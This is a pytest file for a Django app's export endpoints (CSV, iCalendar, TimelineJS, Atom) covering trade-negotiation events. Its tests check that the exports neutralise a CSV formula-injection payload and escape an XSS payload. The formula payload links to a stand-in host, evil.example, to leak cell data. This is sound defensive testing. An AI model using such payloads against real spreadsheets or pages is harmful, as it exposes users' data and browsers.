from __future__ import annotations

import codecs
import csv
import datetime
import io
import json
from urllib.parse import urlencode

import icalendar
import jsonschema
import pytest
from django.db import OperationalError, connection
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.factories import ArticleFactory, EventFactory, EvidenceFactory
from timeline import exports
from timeline.models import Event, Jurisdiction, Meeting, Official, TariffMeasure

pytestmark = pytest.mark.django_db

D = datetime.date


@pytest.fixture
def events() -> dict[str, Event]:
    japan, usa, china = (Jurisdiction.objects.get(code=c) for c in ("JP", "US", "CN"))
    talks = EventFactory(title="Akazawa meets Bessent", date_start=D(2025, 4, 16))
    talks.jurisdictions.set([japan, usa])
    talks.participants.set([Official.objects.get(slug="scott-bessent")])
    Meeting.objects.create(event=talks, location="Washington", duration=datetime.timedelta(hours=1))
    for outlet, day, sentence in [
        ("Kyodo News", D(2025, 4, 17), "Akazawa met Bessent, the “Treasury chief”, on Wednesday."),
        ("Reuters", D(2025, 4, 18), "The two met for an hour."),
    ]:
        article = ArticleFactory(outlet=outlet, url=f"https://example.com/{outlet}", published=day)
        EvidenceFactory(event=talks, article=article, sentence=sentence, start_char=0, end_char=9)
    tariff = EventFactory(
        kind=Event.Kind.TARIFF_MEASURE, title="=HYPERLINK(24% tariff)", date_start=D(2025, 4, 9)
    )
    tariff.jurisdictions.set([usa])
    TariffMeasure.objects.create(event=tariff, imposing=usa, target=japan, rate_percent="24.00")
    planned = EventFactory(
        title="Japan–US talks planned",
        status=Event.Status.PLANNED,
        date_start=D(2025, 5, 22),
        date_text="next Thursday",
    )
    planned.jurisdictions.set([japan, usa])
    Meeting.objects.create(event=planned, location="Tokyo")
    deadline = EventFactory(
        kind=Event.Kind.DEADLINE,
        title="Pause on reciprocal tariffs ends",
        status=Event.Status.HAPPENED,
        date_start=D(2025, 7, 9),
    )
    deadline.jurisdictions.set([usa])
    china_month = EventFactory(
        title="China talks expected in June",
        status=Event.Status.PLANNED,
        date_start=D(2025, 6, 1),
        date_end=D(2025, 6, 30),
        date_precision=Event.Precision.MONTH,
        date_text="in June",
    )
    china_month.jurisdictions.set([china, usa])
    cancelled = EventFactory(
        title="Cancelled visit", status=Event.Status.CANCELLED, date_start=D(2025, 5, 2)
    )
    cancelled.jurisdictions.set([japan])
    undated = EventFactory(
        title="Undated plan", status=Event.Status.PLANNED, date_start=None, date_end=None
    )
    proposed = EventFactory(
        title="Proposed plan",
        status=Event.Status.PLANNED,
        review_state=Event.ReviewState.PROPOSED,
        date_start=D(2025, 8, 1),
    )
    return {
        "talks": talks,
        "tariff": tariff,
        "planned": planned,
        "deadline": deadline,
        "china_month": china_month,
        "cancelled": cancelled,
        "undated": undated,
        "proposed": proposed,
    }


# CSV ---------------------------------------------------------------------------------------------


def read_csv(response) -> list[dict[str, str]]:
    text = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_csv_is_an_attachment_with_a_header_row(client, events):
    response = client.get("/export/events.csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv; charset=utf-8")
    assert response["Content-Disposition"] == 'attachment; filename="parley-events.csv"'
    rows = read_csv(response)
    assert rows[0].keys() >= {"id", "url", "title", "date_start", "countries", "source_urls"}


def test_csv_has_one_row_per_visible_event_in_timeline_order(client, events):
    rows = read_csv(client.get("/export/events.csv"))
    assert [row["title"] for row in rows] == [
        "'=HYPERLINK(24% tariff)",
        "Akazawa meets Bessent",
        "Cancelled visit",
        "Japan–US talks planned",
        "China talks expected in June",
        "Pause on reciprocal tariffs ends",
        "Undated plan",
    ]


def test_csv_row_lists_sources_line_by_line(client, events):
    [row] = [
        r for r in read_csv(client.get("/export/events.csv")) if r["id"] == str(events["talks"].pk)
    ]
    assert row["url"] == f"http://testserver/events/{events['talks'].pk}/"
    assert row["country_codes"] == "JP; US"
    assert row["participants"] == "Scott Bessent"
    assert row["meeting_location"] == "Washington"
    assert row["meeting_duration_minutes"] == "60"
    assert row["source_count"] == "2"
    assert row["source_outlets"].splitlines() == ["Kyodo News", "Reuters"]
    assert row["source_urls"].splitlines() == [
        "https://example.com/Kyodo News",
        "https://example.com/Reuters",
    ]
    assert row["source_published"].splitlines() == ["2025-04-17", "2025-04-18"]
    assert row["source_sentences"].splitlines()[0] == (
        "Akazawa met Bessent, the “Treasury chief”, on Wednesday."
    )


def test_csv_tariff_columns(client, events):
    rows = read_csv(client.get("/export/events.csv", {"type": "tariff_measure"}))
    assert [(r["tariff_rate_percent"], r["tariff_imposing"], r["tariff_target"]) for r in rows] == [
        ("24.00", "US", "JP")
    ]


def test_csv_follows_the_timeline_filters(client, events):
    rows = read_csv(client.get("/export/events.csv", {"country": ["jp", "us"], "q": "Bessent"}))
    assert [row["title"] for row in rows] == ["Akazawa meets Bessent"]


def test_csv_unreviewed_adds_proposed_events(client, events):
    rows = read_csv(client.get("/export/events.csv", {"unreviewed": "1"}))
    assert "Proposed plan" in {row["title"] for row in rows}


def test_csv_ignores_the_page_parameter_and_empty_fields(client, events):
    rows = read_csv(client.get("/export/events.csv?page=3&country=&type=&q="))
    assert len(rows) == 7


FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]


def cells(rows: list[dict[str, str]]) -> list[str]:
    """Every cell, and every line of the multi-line ones (a spreadsheet may split them)."""
    return [line for row in rows for value in row.values() for line in [value, *value.splitlines()]]


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_csv_no_cell_starts_a_formula_whatever_the_field(client, start):
    """An outlet comes from an ingested page's og:site_name: formulas ran in the countries,
    participants and outlets columns."""
    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"Click")'
    event = EventFactory(
        title=formula, summary=formula, date_text=formula, status=Event.Status.PLANNED
    )
    event.jurisdictions.set([Jurisdiction.objects.create(code="XQ", name=formula)])
    event.participants.set([Official.objects.create(full_name=formula, slug="formula")])
    Meeting.objects.create(event=event, location=formula)
    for n in range(2):
        article = ArticleFactory(outlet=formula, url=f"{formula}{n}", title=formula)
        EvidenceFactory(event=event, article=article, sentence=formula, start_char=n, end_char=9)
    [row] = read_csv(client.get("/export/events.csv"))
    for value in cells([row]):
        assert not value.startswith(tuple(FORMULA_STARTS)), value
    # Names and outlets are written on one line: a leading tab or CR is dropped, not quoted.
    one_line = formula.strip() if start in "\t\r" else f"'{formula}"
    assert row["countries"] == row["participants"] == one_line
    assert row["source_outlets"].splitlines() == [one_line] * 2
    assert row["title"] == f"'{formula}"


def test_csv_guard_leaves_ordinary_text_alone(client, events):
    [row] = [
        r for r in read_csv(client.get("/export/events.csv")) if r["id"] == str(events["talks"].pk)
    ]
    assert row["countries"] == "Japan; United States"
    assert row["source_outlets"].splitlines() == ["Kyodo News", "Reuters"]


def test_csv_database_failure_is_an_error_not_a_truncated_200(client, events):
    """The body streamed after a 200: a failing first query left a header row and no error."""

    def fail_on_events(execute, sql, params, many, context):
        if "timeline_event" in sql:
            raise OperationalError("the database went away")
        return execute(sql, params, many, context)

    client.raise_request_exception = False
    with connection.execute_wrapper(fail_on_events):
        response = client.get("/export/events.csv")
    assert response.status_code == 500


def test_csv_for_excel_starts_with_a_byte_order_mark(client, events):
    """Excel reads a CSV without a BOM as the local code page: "Japan–US" came out garbled."""
    plain = b"".join(client.get("/export/events.csv").streaming_content)
    response = client.get("/export/events.csv", {"excel": "1", "country": "JP"})
    excel = b"".join(response.streaming_content)
    assert not plain.startswith(codecs.BOM_UTF8)
    assert excel.startswith(codecs.BOM_UTF8 + b"id,url,")
    assert "Japan–US talks planned" in excel.decode("utf-8-sig")
    assert "Undated plan" not in excel.decode("utf-8-sig")  # the filters still apply


@pytest.mark.parametrize(
    "url",
    [
        "/export/events.csv",
        "/export/events.ics",
        "/export/events.timelinejs.json",
        "/feeds/events.atom",
    ],
)
def test_export_with_malformed_filter_is_a_bad_request(client, url):
    response = client.get(url, {"country": "ZZ"})
    assert response.status_code == 400
    assert "country: Select a valid choice. ZZ" in response.content.decode()


# iCalendar -------------------------------------------------------------------------------------


def read_calendar(response) -> icalendar.Calendar:
    assert response.status_code == 200
    assert response["Content-Type"] == "text/calendar; charset=utf-8"
    return icalendar.Calendar.from_ical(response.content)


def vevents(calendar: icalendar.Calendar) -> dict[str, icalendar.Event]:
    return {str(e["SUMMARY"]): e for e in calendar.walk("VEVENT")}


def test_ics_holds_every_dated_event_of_the_view_with_planned_ones_marked(client, events):
    calendar = read_calendar(client.get("/export/events.ics"))
    assert calendar["VERSION"] == "2.0"
    assert set(vevents(calendar)) == {
        "Akazawa meets Bessent",  # a past meeting belongs in the calendar too
        "=HYPERLINK(24% tariff)",
        "Planned: Japan–US talks planned",
        "Planned: China talks expected in June",
        "Pause on reciprocal tariffs ends",
        "Cancelled: Cancelled visit",
    }


def test_ics_does_not_mark_a_title_twice(client, events):
    events["planned"].title = "Planned: talks in Tokyo"
    events["planned"].save()
    assert "Planned: talks in Tokyo" in vevents(read_calendar(client.get("/export/events.ics")))


def test_ics_events_are_all_day_with_exclusive_end(client, events):
    entries = vevents(read_calendar(client.get("/export/events.ics")))
    planned = entries["Planned: Japan–US talks planned"]
    assert planned.decoded("DTSTART") == D(2025, 5, 22)
    assert planned.decoded("DTEND") == D(2025, 5, 23)
    assert planned["DTSTART"].params["VALUE"] == "DATE"
    june = entries["Planned: China talks expected in June"]
    assert (june.decoded("DTSTART"), june.decoded("DTEND")) == (D(2025, 6, 1), D(2025, 7, 1))


def test_ics_event_has_stable_uid_link_place_and_status(client, events):
    entries = vevents(read_calendar(client.get("/export/events.ics")))
    planned = entries["Planned: Japan–US talks planned"]
    assert planned["UID"] == f"event-{events['planned'].pk}@parley"
    assert planned["URL"] == f"http://testserver/events/{events['planned'].pk}/"
    assert planned["LOCATION"] == "Tokyo"
    assert planned["STATUS"] == "CONFIRMED"
    assert "“next Thursday”" in planned["DESCRIPTION"]
    assert entries["Planned: China talks expected in June"]["STATUS"] == "TENTATIVE"
    assert entries["Cancelled: Cancelled visit"]["STATUS"] == "CANCELLED"


def test_ics_uids_do_not_change_between_requests(client, events):
    def uids():
        return sorted(
            str(e["UID"]) for e in read_calendar(client.get("/export/events.ics")).walk("VEVENT")
        )

    assert uids() == uids()


def test_ics_filtered_url_gives_filtered_calendar(client, events):
    calendar = read_calendar(client.get("/export/events.ics", {"country": "CN"}))
    assert set(vevents(calendar)) == {"Planned: China talks expected in June"}
    assert calendar["X-WR-CALNAME"] == "Parley: trade negotiations (China)"


def test_ics_is_subscribable(client, events):
    response = client.get("/export/events.ics")
    assert response["Content-Disposition"].startswith("inline")
    calendar = read_calendar(response)
    assert calendar["METHOD"] == "PUBLISH"
    assert calendar["REFRESH-INTERVAL"].to_ical() == b"PT6H"


# TimelineJS ------------------------------------------------------------------------------------

# TimelineJS 3's JSON format (timeline.knightlab.com/docs/json-format.html).
DATE = {
    "type": "object",
    "required": ["year"],
    "properties": {
        "year": {"type": "integer"},
        "month": {"type": "integer", "minimum": 1, "maximum": 12},
        "day": {"type": "integer", "minimum": 1, "maximum": 31},
    },
    "additionalProperties": False,
}
TEXT = {
    "type": "object",
    "properties": {"headline": {"type": "string"}, "text": {"type": "string"}},
    "additionalProperties": False,
}
TIMELINEJS = {
    "type": "object",
    "required": ["events"],
    "properties": {
        "title": {"type": "object", "properties": {"text": TEXT}},
        "events": {
            "type": "array",
            "items": {
                "type": "object",
                "required": ["start_date", "text", "unique_id"],
                "properties": {
                    "start_date": DATE,
                    "end_date": DATE,
                    "text": TEXT,
                    "group": {"type": "string"},
                    "display_date": {"type": "string"},
                    "unique_id": {"type": "string", "pattern": "^[A-Za-z][-A-Za-z0-9_]*$"},
                },
                "additionalProperties": False,
            },
        },
    },
}


def read_timelinejs(response) -> dict:
    assert response.status_code == 200
    assert response["Content-Type"] == "application/json"
    data = json.loads(response.content)
    jsonschema.validate(data, TIMELINEJS)
    return data


def test_timelinejs_is_valid_for_embedding(client, events):
    response = client.get("/export/events.timelinejs.json")
    data = read_timelinejs(response)
    assert response["Access-Control-Allow-Origin"] == "*"
    ids = [slide["unique_id"] for slide in data["events"]]
    assert len(ids) == len(set(ids)) == 6
    assert "Undated plan" not in {slide["text"]["headline"] for slide in data["events"]}
    assert data["undated_events"] == 1
    assert "1 undated event is not shown" in data["title"]["text"]["text"]


def test_timelinejs_dates_follow_precision(client, events):
    slides = {
        s["unique_id"]: s
        for s in read_timelinejs(client.get("/export/events.timelinejs.json"))["events"]
    }
    talks = slides[f"event-{events['talks'].pk}"]
    assert talks["start_date"] == {"year": 2025, "month": 4, "day": 16}
    assert "end_date" not in talks
    june = slides[f"event-{events['china_month'].pk}"]
    assert june["start_date"] == {"year": 2025, "month": 6}
    assert june["display_date"] == "Jun 2025"
    assert talks["display_date"] == "16 Apr 2025"  # the year is always there


def test_timelinejs_slide_text_escapes_and_links_sources(client, events):
    slides = read_timelinejs(client.get("/export/events.timelinejs.json"))["events"]
    by_title = {s["text"]["headline"]: s for s in slides}
    talks = by_title["Akazawa meets Bessent"]
    assert talks["group"] == "Meeting or call"
    assert (
        '<a href="https://example.com/Kyodo News">Kyodo News, 2025-04-17</a>'
        in talks["text"]["text"]
    )
    assert "“Treasury chief”" in talks["text"]["text"]


def test_timelinejs_filtered_view(client, events):
    data = read_timelinejs(client.get("/export/events.timelinejs.json", {"status": "planned"}))
    assert [s["text"]["headline"] for s in data["events"]] == [
        "Japan–US talks planned",
        "China talks expected in June",
    ]
    assert data["title"]["text"]["headline"] == "Parley: trade negotiations (Planned)"


EXPORTS = [
    "/export/events.csv",
    "/export/events.ics",
    "/export/events.timelinejs.json",
    "/feeds/events.atom",
]
PARAMETERS = ["country", "official", "type", "status", "from", "to", "q", "unreviewed", "page"]


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    url=st.sampled_from(EXPORTS),
    params=st.lists(st.tuples(st.sampled_from(PARAMETERS), st.text(max_size=20)), max_size=4),
)
def test_exports_answer_any_query_string_without_server_error(client, events, url, params):
    response = client.get(f"{url}?{urlencode(params)}")
    assert response.status_code in {200, 400}


def test_timeline_offers_the_csv_for_excel_with_its_filters(client, events):
    text = client.get("/", {"country": "JP"}).text
    assert 'href="/export/events.csv?country=JP&amp;excel=1"' in text


def test_timelinejs_display_date_is_escaped(client, events, monkeypatch):
    # TimelineJS inserts display_date as HTML: whatever the date text, it arrives as text.
    monkeypatch.setattr(exports, "format_event_date", lambda *args: "<img src=x onerror=alert(1)>")
    slides = read_timelinejs(client.get("/export/events.timelinejs.json"))["events"]
    assert {slide["display_date"] for slide in slides} == {"&lt;img src=x onerror=alert(1)&gt;"}
